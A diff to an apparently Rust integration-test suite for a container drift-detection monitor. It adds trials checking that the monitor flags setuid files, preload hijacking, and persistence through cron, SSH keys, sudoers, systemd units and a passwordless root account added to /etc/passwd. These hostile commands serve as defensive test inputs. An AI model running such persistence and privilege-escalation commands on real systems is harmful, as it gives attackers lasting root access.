@@ -20,12 +20,17 @@ pub(crate) fn trials() -> Vec<Trial> {
         trial("a06_renamed_over_is_modified", a06_renamed_over),
         trial("a07_script_is_the_subject_not_its_shell", a07_script),
         trial("a14_running_and_deleted_is_new_and_deleted", a14_deleted),
+        trial("a18_preloaded_library_is_persistence", a18_preload),
         trial("a20_symlink_is_followed_to_the_file", a20_symlink),
         trial("a21_hard_link_of_an_image_program_is_relocated", a21_hard_link),
         trial("a22_moved_program_is_removed_and_relocated", a22_moved),
         trial("a23_removed_tools_are_told", a23_removed),
         trial("a24_setuid_is_privileged", a24_setuid),
         trial("a25_file_capability_is_privileged", a25_capability),
+        trial("a25_rights_of_new_linked_and_moved_files", a25_other_ways),
+        trial("a34_what_others_run_or_obey_is_persistence", a34_persistence),
+        trial("a35_changed_entry_point_is_told_and_runs_at_the_next_start", a35_entry_point),
+        trial("a_stopped_containers_snapshot_can_be_removed", a_removed_snapshot),
         trial("a28_exec_with_terminal_is_one_interactive_session", a28_interactive),
         trial("a29_exec_without_terminal_is_an_exec_session", a29_exec),
         trial("a45_drift_in_one_container_never_marks_another", a45_two_containers),
@@ -161,7 +166,6 @@ fn a22_moved(node: &Node) -> anyhow::Result<()> {
 fn a23_removed(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("rm -f /usr/bin/auditctl /usr/sbin/tcpdump")?;
-    container.diff()?;
     container
         .told(&["medium file.removed /usr/bin/auditctl", "medium file.removed /usr/sbin/tcpdump"])
         .map(drop)
@@ -170,7 +174,6 @@ fn a23_removed(node: &Node) -> anyhow::Result<()> {
 fn a24_setuid(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("chmod u+s /bin/bash")?;
-    container.diff()?;
     let findings = container.told(&["high file.privileged /bin/bash"])?;
     let privileged = only(&findings, "file.privileged")?;
     assert_eq!(privileged["file"]["mode"], "4755", "{privileged:#}");
@@ -182,11 +185,92 @@ fn a24_setuid(node: &Node) -> anyhow::Result<()> {
 fn a25_capability(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("/usr/sbin/setcap cap_net_raw,cap_setuid+ep /usr/bin/python3")?;
-    container.diff()?;
     let findings = container.told(&["high file.privileged /usr/bin/python3"])?;
     let privileged = only(&findings, "file.privileged")?;
     ensure!(privileged["file"]["capability"].is_string(), "{privileged:#}");
     assert_eq!(privileged["expected"]["capability"], serde_json::Value::Null);
+    Ok(())
+}
+
+fn a25_other_ways(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.sh("mkdir /tmp/d; cp /bin/ls /tmp/l; chmod 4755 /tmp/l\n\
+         ln /tmp/l /tmp/m; mv /tmp/l /tmp/d/n")?;
+    container
+        .told(&[
+            "info file.relocated /tmp/d/n",
+            "high file.privileged /tmp/d/n",
+            "info file.relocated /tmp/m",
+            "high file.privileged /tmp/m",
+        ])
+        .map(drop)
+}
+
+fn a18_preload(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.sh("echo /tmp/evil.so > /etc/ld.so.preload")?;
+    let findings = container.told(&["high file.persistence /etc/ld.so.preload"])?;
+    let preload = only(&findings, "file.persistence")?;
+    ensure!(preload["file"]["blake3"].is_string(), "{preload:#}");
+    assert_eq!(preload["attack"]["technique"], "T1546");
+    Ok(())
+}
+
+fn a34_persistence(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.sh("mkdir -p /etc/cron.d /root/.ssh /etc/profile.d /etc/sudoers.d\n\
+         mkdir -p /etc/systemd/system/x.target.wants\n\
+         echo '* * * * * root /tmp/x' > /etc/cron.d/a\n\
+         echo 'ssh-ed25519 AAAA' > /root/.ssh/authorized_keys\n\
+         echo 'alias ls=/tmp/x' > /etc/profile.d/x.sh\n\
+         echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app\n\
+         echo '[Service]' > /etc/systemd/system/x.service\n\
+         ln -s ../x.service /etc/systemd/system/x.target.wants/x.service\n\
+         echo 'evil::0:0::/:/bin/sh' >> /etc/passwd\n\
+         cp /etc/group /tmp/g; cat /tmp/g > /etc/group")?;
+    let findings = container.told(&[
+        "high file.persistence /etc/cron.d/a",
+        "high file.persistence /root/.ssh/authorized_keys",
+        "high file.persistence /etc/profile.d/x.sh",
+        "high file.persistence /etc/sudoers.d/app",
+        "high file.persistence /etc/systemd/system/x.service",
+        "high file.persistence /etc/systemd/system/x.target.wants/x.service",
+        "high file.persistence /etc/passwd",
+    ])?;
+    let users = findings.iter().find(|finding| finding["file"]["path"] == "/etc/passwd");
+    ensure!(users.is_some_and(|users| users["expected"]["blake3"].is_string()), "{users:#?}");
+    Ok(())
+}
+
+fn a35_entry_point(node: &Node) -> anyhow::Result<()> {
+    let container = node.container_with_entry_point()?;
+    container.sh("echo '# curl evil|sh' >> /docker-entrypoint.sh")?;
+    let changed = [
+        "medium file.modified /docker-entrypoint.sh",
+        "high file.persistence /docker-entrypoint.sh",
+    ];
+    container.told(&changed)?;
+    // A container that is not yet marked when its entry point runs is seen at the
+    // next start.
+    let expected = [&changed[..], &["high exec.script /docker-entrypoint.sh"]].concat();
+    for _ in 0..5 {
+        container.stop()?;
+        container.start_again()?;
+        std::thread::sleep(crate::node::SETTLE);
+        if container.findings()?.iter().any(|finding| finding["kind"] == "exec.script") {
+            break;
+        }
+    }
+    container.told(&expected).map(drop)
+}
+
+fn a_removed_snapshot(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.sh("mkdir -p /srv/a/b; echo x > /srv/a/b/c; chmod 700 /srv/a/b/c")?;
+    container.stop()?;
+    node.ctr(&["container", "rm", &container.id])?;
+    let left = node.ctr(&["snapshots", "ls"])?;
+    ensure!(!left.contains(&container.id), "{left}");
     Ok(())
 }
 
